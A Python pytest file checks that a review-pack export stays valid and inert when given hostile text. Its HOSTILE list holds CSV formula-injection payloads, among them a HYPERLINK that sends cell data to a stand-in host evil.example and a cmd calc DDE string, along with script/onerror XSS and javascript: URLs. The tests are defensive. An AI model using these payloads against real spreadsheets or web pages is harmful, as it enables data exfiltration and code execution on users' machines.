"""Hostile text through both export paths: the pack stays valid, formulas inert, markup text.

PostgreSQL refuses NUL bytes and lone surrogates in text and jsonb, so those reach a pack
only through the embedded SQLite default; both paths are exercised here.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import uuid
import zipfile
from html.parser import HTMLParser

import pytest

from domain.csvsafe import MAX_CELL, TRUNCATED
from reviewpacks import runtime
from reviewpacks.settings import Settings
from storage import db
from storage.artifacts import LocalStore
from storage.demo_data import seed_demo
from storage.models import Finding, ReviewPack, Tenant
from workers import pipeline
from workers.client import ReviewPackClient

pytestmark = pytest.mark.faults

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script></style><img src=x onerror=alert(2)>",
    "javascript:alert(document.domain)",
    "\u202eRTL\u202c mixed \u05e9\u05dc\u05d5\u05dd and emoji 🔥👩‍💻",
    'quotes " and \'single\', commas, and\nline\r\nbreaks',
    "M" * (1024 * 1024),
]
SQLITE_ONLY = ["NUL\x00byte", "=NUL first\x00"]


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attrs = set(), set()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attrs.update(a for a, _ in attrs)


def _pack(url, tmp_path, reader, extra):
    settings = Settings.from_env(
        {"REVIEWPACKS_DATABASE_URL": url, "REVIEWPACKS_HOME": str(tmp_path), "REVIEWPACKS_FINDINGS_READER": reader}
    )
    if url.startswith("sqlite"):
        db.upgrade(url)
    store = LocalStore(tmp_path / f"artifacts-{reader}")
    store.ensure_ready()
    with runtime.session_factory(url)() as session:
        ids = seed_demo(session, findings=3)
        session.get(Tenant, ids.tenant_id).name = HOSTILE[6]
        texts = HOSTILE + extra
        session.add_all(
            Finding(
                tenant_id=ids.tenant_id, finding_type=text[:90], severity="high", status="new", subject_type="user",
                subject_external_id=uuid.uuid4(), subject_display_name=text, title=text, evidence={"note": text, text[:50]: 1},
            )
            for text in texts
        )
        session.commit()
    client = ReviewPackClient(settings, store=store, publish=lambda _id: None)
    pack = client.request_pack(tenant_id=ids.tenant_id, actor_id=ids.manager_id).pack
    assert pipeline.generate(pack.id, settings=settings, store=store, can_retry=False).state == "ready"
    with runtime.session_factory(url)() as session:
        key = session.get(ReviewPack, pack.id).file_path
    return store.root / key, len(texts) + sum(1 for _ in range(3))


@pytest.mark.parametrize("backend", ["postgresql-copy", "postgresql-portable", "sqlite-portable"])
def test_hostile_text_gives_a_valid_inert_pack(backend, pg_url, tmp_path):
    if backend.startswith("sqlite"):
        url, extra = f"sqlite:///{tmp_path / 'hostile.db'}", SQLITE_ONLY
    else:
        url, extra = pg_url, []
    path, _ = _pack(url, tmp_path, backend.split("-")[1], extra)

    assert subprocess.run(["unzip", "-tq", str(path)], capture_output=True).returncode == 0
    with zipfile.ZipFile(path) as archive:
        rows = list(csv.reader(io.StringIO(archive.read("findings.csv").decode("utf-8"), newline="")))
        metadata = json.loads(archive.read("metadata.json"))
        html = archive.read("executive-summary.html").decode("utf-8")
    header, data = rows[0], rows[1:]
    hostile_rows = [r for r in data if r[header.index("subject_type")] == "user" and r[header.index("severity")] == "high"
                    and r[header.index("title")].lstrip("'").startswith(tuple(t[:5] for t in HOSTILE + SQLITE_ONLY))]
    assert len(hostile_rows) >= len(HOSTILE)
    assert metadata["entrypoint"] == "executive-summary.html"
    title = header.index("title")
    for row in data:
        for cell in row:
            # Inert: no cell begins with a character a spreadsheet would evaluate.
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell[:40]
            assert "\x00" not in cell
    # The 1 MB text is cut, visibly, to what a spreadsheet cell holds.
    long_titles = [r[title] for r in data if r[title].startswith("MMMM")]
    assert long_titles and all(len(t) <= MAX_CELL and t.endswith(TRUNCATED) for t in long_titles)
    assert max(len(cell) for row in data for cell in row) <= MAX_CELL
    parser = _Elements()
    parser.feed(html)
    assert not parser.tags & {"script", "img", "a"}
    assert not {a for a in parser.attrs if a.startswith("on") or a in ("href", "src")}
